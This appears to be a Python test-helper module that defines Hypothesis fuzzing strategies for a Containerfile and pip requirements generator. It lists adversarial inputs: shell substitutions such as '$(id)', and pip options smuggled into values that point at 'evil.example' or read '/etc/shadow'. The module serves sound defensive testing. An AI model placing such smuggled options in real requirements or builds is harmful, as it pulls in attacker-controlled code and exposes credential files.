"""Hypothesis settings and strategies shared by the property tests.

Runs are derandomized and keep no example database, so CI sees the same examples every
time. ``IMAGEC_HYPOTHESIS_EXPLORE=1`` turns on random exploration for a local hunt.
"""

from __future__ import annotations

import os

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

EXPLORE = os.environ.get("IMAGEC_HYPOTHESIS_EXPLORE") == "1"
PROPERTY = settings(
    derandomize=not EXPLORE,
    database=None,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

# Fragments that mean something to a Containerfile, BuildKit's lexer, a shell or pip.
ADVERSARIAL = [
    " ",
    "  ",
    "\\",
    "\\\\",
    '\\"',
    '"',
    "'",
    "$",
    "$HOME",
    "${HOME}",
    "${X:-y}",
    "\\$",
    "=",
    "#",
    " #",
    "# syntax=docker/dockerfile:1",
    "# escape=`",
    "`id`",
    "$(id)",
    ";",
    "&&",
    "|",
    "<<EOF",
    "<<-EOF",
    "EOF",
    "--x",
    "-r",
    "RUN id",
    "\ufeff",
    "\u00a0",
    "\u3000",
    "\u200b",
    "ü",
    "😀",
    "中文",
    "{",
    "}",
    "[",
    "]",
    ",",
    # pip options a quoted value could smuggle in
    " -e git+https://evil.example/x.git#egg=x",
    " -r /etc/shadow",
    " --index-url https://evil.example/simple",
]

# Characters that may appear raw in a Containerfile line; the spec model refuses the others.
UNSAFE_CHARACTERS = (
    "\u2028\u2029\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
)
RAW_CHARS = st.characters(blacklist_categories=("Cc", "Cs"), blacklist_characters=UNSAFE_CHARACTERS)
SNIPPETS = st.sampled_from(ADVERSARIAL)

# Dense in what matters: most characters here mean something to BuildKit's lexer, a shell or
# pip, so random strings over them hit quoting bugs quickly; the rest is arbitrary Unicode.
# (Strings are drawn whole, not character by character: that keeps generation cheap.)
ALPHABET = "aZ09 _-=:./@+,\\\"'$`{}()[]<>#;&|!*?~%^\u00a0\u3000\ufeff\u200b\u00e9\U0001f600\u4e2d"
TEXT = st.one_of(
    st.text(ALPHABET, max_size=16),
    st.builds(
        lambda head, snippet, tail: head + snippet + tail,
        st.text(ALPHABET, max_size=4),
        SNIPPETS,
        st.text(RAW_CHARS, max_size=4),
    ),
)
ARGV_TEXT = st.one_of(
    TEXT,
    st.text(ALPHABET + "\n\r\t\x1b\x85\u2028", max_size=16),
    st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=8),
)

# Characters the spec refuses in any value, each with the name its message gives.
FORBIDDEN = st.sampled_from(
    [
        "\n",
        "\r",
        "\x00",
        "\t",
        "\x0b",
        "\x0c",
        "\x1b",
        "\x7f",
        "\x85",
        "\x9b",
        "\u2028",
        "\u2029",
        "\u202e",
        "\u2066",
        "\u200f",
        "\ud800",
        "\udfff",
    ]
)


# Lines of a requirements file as an attacker writes them: options whose values hold other
# options, quoted every way shlex allows, continuations, comments and markers.
_OPTION_NAMES = st.sampled_from(
    ["--trusted-host", "-i", "--index-url", "--extra-index-url", "-f", "--find-links",
     "--no-binary", "--only-binary", "-r", "-c", "-e", "--pre", "--prefer-binary"]
)  # fmt: skip
_VALUE_PARTS = st.sampled_from(
    ["pypi.org", "https://mirror.example/simple", ":all:", "numpy", "${PIP_X}", " ", "-e",
     "git+https://evil.example/x.git#egg=x", "-r", "/etc/shadow", "--pre", "#", " #", "\\",
     "'", '"', "=", "https://u:tok@evil.example/simple", ":8443", ","]
)  # fmt: skip


@st.composite
def _quoted(draw: st.DrawFn) -> str:
    value = "".join(draw(st.lists(_VALUE_PARTS, min_size=1, max_size=4)))
    style = draw(st.sampled_from(["plain", "single", "double", "escaped"]))
    if style == "single":
        return "'" + value.replace("'", "'\"'\"'") + "'"
    if style == "double":
        return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'
    if style == "escaped":
        return "".join("\\" + ch if ch in " '\"\\" else ch for ch in value)
    return value


@st.composite
def _requirements_line(draw: st.DrawFn) -> str:
    kind = draw(st.sampled_from(["option", "option=", "requirement"]))
    if kind == "requirement":
        marker = draw(st.sampled_from(["", ' ; python_version >= "3"', ' ; os_name == "a -e b"']))
        line = draw(st.sampled_from(["foo==1.0", "bar>=2", "baz"])) + marker
    else:
        sep = "=" if kind == "option=" and draw(_OPTION_NAMES).startswith("--") else " "
        line = draw(_OPTION_NAMES) + sep + draw(_quoted())
    tail = draw(st.sampled_from(["", " # comment", " \\", "\\"]))
    return line + tail


REQUIREMENTS_FILES = st.lists(_requirements_line(), min_size=1, max_size=4).map(
    lambda lines: "\n".join(lines) + "\n"
)
"""Whole requirements files built from the lines above."""
